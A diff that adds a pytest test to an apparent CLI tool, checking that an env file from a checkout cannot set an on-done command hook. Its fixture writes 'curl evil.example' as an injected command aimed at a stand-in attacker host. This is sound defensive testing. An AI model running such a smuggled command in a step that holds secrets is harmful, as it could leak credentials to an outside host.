@@ -280,6 +280,17 @@ def test_an_env_file_completes_the_environment_and_does_not_beat_it(call, worksp
     assert answer.setting("target")[0] == "t"
 
 
+@pytest.mark.parametrize("name", ["S3BATCH_ON_DONE", "PLUGIN_ON_DONE"])
+def test_an_env_file_names_no_command_to_run(call, workspace, name):
+    """It may be a file of a checkout, and the step has secrets."""
+    (workspace / "vars").write_text(f"{name}=curl evil.example\n")
+
+    refused = call("config", "sync", env={"S3BATCH_ENV_FILE": "vars"})
+
+    assert (refused.code, f"env_file vars (from S3BATCH_ENV_FILE) sets {name}" in refused.err) == (2, True)
+    assert call("config", "sync", env={"S3BATCH_ENV_FILE": "vars", name: "true"}).code == 0
+
+
 def test_an_env_file_must_be_there(call):
     answer = call("config", "sync", S3BATCH_ENV_FILE="nowhere")
 
